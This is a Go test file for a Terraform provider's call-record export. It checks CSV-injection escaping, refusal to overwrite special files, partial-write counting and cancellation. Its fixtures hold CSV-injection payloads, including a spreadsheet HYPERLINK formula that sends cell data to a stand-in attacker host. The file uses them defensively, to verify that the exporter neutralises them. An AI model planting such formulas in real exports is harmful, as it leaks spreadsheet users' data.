// Copyright (c) The terraform-provider-tencentcallkit Authors
// SPDX-License-Identifier: MPL-2.0

package provider

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/tencentcallkit/terraform-provider-tencentcallkit/internal/callkit"
	"github.com/tencentcallkit/terraform-provider-tencentcallkit/internal/mockserver"
)

// TestExportCSV_formulaCells: a text cell that begins with =, +, -, @, a tab
// or a carriage return is written with one leading ' (OWASP's rule for CSV
// injection); other cells and number cells are as they were; JSON Lines
// keeps every value byte for byte.
func TestExportCSV_formulaCells(t *testing.T) {
	t.Parallel()
	one := int64(1)
	recs := []callkit.Record{
		{CallID: "=1+1", SDKAppID: 1400000000, MediaType: "+audio", RoomID: `=HYPERLINK("http://evil.example/?"&A1,"click")`, RoomIDType: &one,
			StartCallTs: 1700000000, Caller: "@SUM(A1:A9)", CallType: "-single", CallResult: "\tnormal_end", Callees: []string{"\rbob", "=x"}},
		{CallID: "ok=1", SDKAppID: 1400000000, MediaType: "audio", RoomID: "42-", StartCallTs: 1700000100, Caller: "a@b",
			CallType: "single", CallResult: "'quoted", Callees: []string{"a", "-b"}},
	}
	rows, err := csv.NewReader(bytes.NewReader(readBack(t, exportFormatCSV, recs))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		csvColumns,
		{"'=1+1", "1400000000", "'+audio", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "1", "1700000000", "0", "0",
			"'@SUM(A1:A9)", "", "'-single", "'\tnormal_end", "'\rbob;=x"},
		{"ok=1", "1400000000", "audio", "42-", "", "1700000100", "0", "0", "a@b", "", "single", "'quoted", "a;-b"},
	}
	// encoding/csv reads a quoted \r as \n only inside a line end; compare
	// the cells that hold a CR by their start.
	for i := range want {
		for j := range want[i] {
			got, w := rows[i][j], want[i][j]
			if strings.ContainsRune(w, '\r') {
				got, w = got[:2], w[:2]
			}
			if got != w {
				t.Errorf("row %d, %s = %q, want %q", i, csvColumns[j], rows[i][j], want[i][j])
			}
		}
	}

	var decoded []map[string]any
	for line := range strings.SplitSeq(strings.TrimSuffix(string(readBack(t, exportFormatJSONL, recs)), "\n"), "\n") {
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatal(err)
		}
		decoded = append(decoded, m)
	}
	for i, r := range recs {
		for k, v := range map[string]string{"call_id": r.CallID, "media_type": r.MediaType, "room_id": r.RoomID, "caller": r.Caller,
			"call_type": r.CallType, "call_result": r.CallResult} {
			if decoded[i][k] != v {
				t.Errorf("JSON Lines record %d %s = %q, want %q as the service sent it", i, k, decoded[i][k], v)
			}
		}
		if got := fmt.Sprint(decoded[i]["callees"]); got != fmt.Sprint(r.Callees) {
			t.Errorf("JSON Lines record %d callees = %s, want %v", i, got, r.Callees)
		}
	}
}

// TestExportFile_overwriteOnlyFilesAndLinks: overwrite = true replaces a
// regular file or a symbolic link (the link, never its target); a FIFO, a
// socket or a device node is refused, whatever overwrite says, with an
// error that names what is there.
func TestExportFile_overwriteOnlyFilesAndLinks(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	fifo := filepath.Join(dir, "pipe.csv")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	sock := filepath.Join(dir, "s.csv")
	l, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	for path, kind := range map[string]string{fifo: "a named pipe (FIFO)", sock: "a socket", os.DevNull: "a character device"} {
		for _, overwrite := range []bool{true, false} {
			// exportTarget only: on a build that would accept it, nothing is replaced.
			_, err := exportTarget(path, overwrite)
			if err == nil || !strings.Contains(err.Error(), path+" is "+kind) || !strings.Contains(err.Error(), "only a regular file or a symbolic link") {
				t.Errorf("%s with overwrite = %v: %v, want an error naming %s", path, overwrite, err, kind)
			}
		}
	}

	// The link at path is replaced; the file it points to is left as it was.
	target := filepath.Join(dir, "target.txt")
	if err := os.WriteFile(target, []byte("keep me"), 0o600); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(dir, "link.jsonl")
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
	e, err := createExport(link, exportFormatJSONL, false, true)
	if err != nil {
		t.Fatal(err)
	}
	if err := e.add(exportEdgeRecords()[:1]); err != nil {
		t.Fatal(err)
	}
	if _, err := e.commit(); err != nil {
		t.Fatal(err)
	}
	if st, err := os.Lstat(link); err != nil || !st.Mode().IsRegular() {
		t.Errorf("the link was not replaced by the file: %v, %v", st, err)
	}
	if raw, _ := os.ReadFile(target); string(raw) != "keep me" {
		t.Errorf("the link's target changed: %q", raw)
	}
}

// failingWriter passes left bytes on, then fails every write.
type failingWriter struct {
	w    io.Writer
	left int
}

func (f *failingWriter) Write(p []byte) (int, error) {
	if len(p) > f.left {
		n, _ := f.w.Write(p[:f.left])
		f.left = 0
		return n, errors.New("no space left on device")
	}
	f.left -= len(p)
	return f.w.Write(p)
}

// TestExportFile_countsWhatReachedTheFile: a write that fails part-way says
// how many records reached the file, not how many were handed to it.
func TestExportFile_countsWhatReachedTheFile(t *testing.T) {
	t.Parallel()
	e, err := createExport(filepath.Join(t.TempDir(), "out.csv"), exportFormatCSV, false, false)
	if err != nil {
		t.Fatal(err)
	}
	defer e.abort()
	rec := exportEdgeRecords()[0]
	line := len(csvLine(t, rec))
	header := e.stream.buf.Buffered()
	const reached = 7000 // records whose every byte the file takes: more than the buffer holds
	e.stream.out.w = &failingWriter{w: e.stream.out.w, left: header + reached*line + line/2}
	batch := make([]callkit.Record, 100)
	for i := range batch {
		batch[i] = rec
	}
	for i := 0; ; i++ {
		err = e.add(batch)
		if err != nil {
			break
		}
		if i > 200 {
			t.Fatal("the writes never failed")
		}
	}
	if !strings.Contains(err.Error(), fmt.Sprintf("stopped after %d records had reached the file", reached)) || !strings.Contains(err.Error(), "no space left") {
		t.Fatalf("error %q, want it to count the %d records that reached the file", err, reached)
	}
}

// csvLine is one record as the CSV writer writes it.
func csvLine(t *testing.T, r callkit.Record) string {
	t.Helper()
	raw := readBack(t, exportFormatCSV, []callkit.Record{r})
	_, rest, _ := strings.Cut(string(raw), "\r\n")
	return rest
}

// TestExportFile_leftoverTemporaryIsAWarning: when only the removal of the
// temporary name fails, the file is in place and the export succeeds; the
// leftover names the temporary file.
func TestExportFile_leftoverTemporaryIsAWarning(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	target := filepath.Join(dir, "out.jsonl")
	e, err := createExport(target, exportFormatJSONL, false, false)
	if err != nil {
		t.Fatal(err)
	}
	e.remove = func(string) error { return syscall.EROFS }
	if err := e.add(exportEdgeRecords()); err != nil {
		t.Fatal(err)
	}
	size, err := e.commit()
	if err != nil {
		t.Fatalf("commit failed though the file is in place: %v", err)
	}
	if st, err := os.Stat(target); err != nil || st.Size() != size {
		t.Fatalf("the file at path: %v, %v (want %d bytes)", st, err, size)
	}
	if e.leftover == nil || !strings.Contains(e.leftover.Error(), e.tmp.Name()) || !strings.Contains(e.leftover.Error(), "remove it by hand") {
		t.Fatalf("leftover %v, want it to name %s", e.leftover, e.tmp.Name())
	}
}

// TestCallRecordsExport_cancelWhileProgressBlocked: the export, like the
// callback check, returns promptly after cancellation while a progress send
// is blocked, and leaves no file and no temporary file.
func TestCallRecordsExport_cancelWhileProgressBlocked(t *testing.T) {
	t.Parallel()
	m, mockURL, now := frozenRecordsMock(t, mockserver.Options{Records: 3000, Seed: 36})
	m.SetLatency(200 * time.Millisecond) // 200 ms a page: the walk is still running when the test cancels
	dir := t.TempDir()
	a := configuredAction(t, NewCallRecordsExportAction(), mockURL)
	cfg := actionConfig(t, a, map[string]any{"path": filepath.Join(dir, "out.jsonl"), "start_timestamp": weekAgo(now), "number_per_page": int64(10)})
	diags := invokeCancelledWhileBlocked(t, a, cfg)
	requireDiag(t, diags, "Unable to Export Call Records")
	assertOnlyFiles(t, dir)
}
